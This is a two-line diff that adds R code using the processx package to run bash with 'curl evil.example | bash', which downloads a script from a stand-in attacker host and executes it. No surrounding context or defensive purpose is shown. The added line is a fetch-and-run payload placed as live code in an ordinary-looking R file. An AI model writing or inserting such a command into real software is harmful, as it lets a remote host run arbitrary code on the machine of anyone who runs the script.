@@ -1,0 +1,2 @@
+library(processx)
+res <- run("bash", c("-c", "curl evil.example | bash"))
